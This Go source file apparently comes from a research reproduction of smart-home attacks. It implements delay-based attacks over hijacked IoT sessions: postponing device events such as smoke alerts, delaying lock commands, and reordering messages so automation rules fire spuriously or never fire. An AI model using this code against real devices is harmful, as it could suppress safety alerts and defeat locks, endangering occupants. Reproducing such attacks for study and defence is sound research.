package core

import (
	"time"

	"repro/internal/sniff"
)

// This file maps Section V's attack families onto the two primitives.
//
// Type-I (state-update delay) and Type-II (action delay) are direct uses
// of e-Delay and c-Delay. Type-III (erroneous execution) adds ordering:
// the attacker holds the event that would change a rule's condition until
// after the rule's trigger has passed (spurious execution), or holds the
// event that would satisfy the condition until the trigger has passed
// (disabled execution). Both reduce to "release when some other message is
// observed", which ReleaseWhen implements across hijacked sessions.

// StateUpdateDelay launches a Type-I attack: the next event from the
// device is delayed, deferring the user's awareness of the state change
// (e.g. a smoke alert). With hold == 0 the delay runs until released.
func StateUpdateDelay(h *Hijacker, origin string, hold time.Duration) *DelayOp {
	return h.EDelay(origin, hold)
}

// ActionDelay is a Type-II attack: an automation's effect is deferred by
// delaying its trigger event and/or its action command. Combining both
// extends the window beyond either timeout alone (the Case 3/4 technique:
// e-Delay on the contact sensor plus c-Delay on the lock stack to at least
// 60 seconds).
type ActionDelay struct {
	// TriggerOp is the e-Delay on the rule's trigger event (nil if only
	// the command is delayed).
	TriggerOp *DelayOp
	// CommandOp is the c-Delay on the resulting action command (nil if
	// only the event is delayed).
	CommandOp *DelayOp
}

// ActionDelayConfig selects what to delay.
type ActionDelayConfig struct {
	// TriggerHijacker/TriggerOrigin delay the trigger event. Optional.
	TriggerHijacker *Hijacker
	TriggerOrigin   string
	TriggerHold     time.Duration
	// CommandHijacker/CommandOrigin delay the action command. Optional.
	CommandHijacker *Hijacker
	CommandOrigin   string
	CommandHold     time.Duration
}

// NewActionDelay arms a Type-II attack.
func NewActionDelay(cfg ActionDelayConfig) *ActionDelay {
	a := &ActionDelay{}
	if cfg.TriggerHijacker != nil {
		a.TriggerOp = cfg.TriggerHijacker.EDelay(cfg.TriggerOrigin, cfg.TriggerHold)
	}
	if cfg.CommandHijacker != nil {
		a.CommandOp = cfg.CommandHijacker.CDelay(cfg.CommandOrigin, cfg.CommandHold)
	}
	return a
}

// ReleaseWhen releases op as soon as the watching hijacker observes an
// event record from origin (plus extra slack). This is the ordering tool
// of the Type-III attacks: "hold the condition event until the trigger has
// gone past".
func ReleaseWhen(op *DelayOp, watch *Hijacker, origin string, extra time.Duration) {
	prev := watch.OnRecord
	done := false
	watch.OnRecord = func(b *Bridge, r RecordInfo) {
		if prev != nil {
			prev(b, r)
		}
		if done {
			return
		}
		cr := watch.classify(r)
		if !cr.Known || cr.Msg.Origin != origin || cr.Msg.Kind != sniff.KindEvent {
			return
		}
		done = true
		if extra > 0 {
			watch.atk.Clock.Schedule(extra, op.Release)
		} else {
			op.Release()
		}
	}
}

// SpuriousExecution arms the Type-III(1) attack against a rule
// (T, C, A): the event that would turn the condition false is held; the
// victim (or the attacker's timing) produces the trigger while the server
// still believes the stale condition; the action fires spuriously. The
// held event is released when the trigger's event message is observed
// passing through watchTrigger, after slack.
func SpuriousExecution(condHijacker *Hijacker, condOrigin string, watchTrigger *Hijacker, triggerOrigin string, slack time.Duration) *DelayOp {
	op := condHijacker.EDelay(condOrigin, 0)
	ReleaseWhen(op, watchTrigger, triggerOrigin, slack)
	return op
}

// DisabledExecution arms the Type-III(2) attack: the event that would turn
// the condition true (or that is itself the trigger) is held until after
// the other event has passed, so the rule never fires. The choreography is
// identical to SpuriousExecution — what differs is which event is held —
// so this is an alias with its own name for call-site clarity.
func DisabledExecution(heldHijacker *Hijacker, heldOrigin string, watch *Hijacker, watchOrigin string, slack time.Duration) *DelayOp {
	return SpuriousExecution(heldHijacker, heldOrigin, watch, watchOrigin, slack)
}
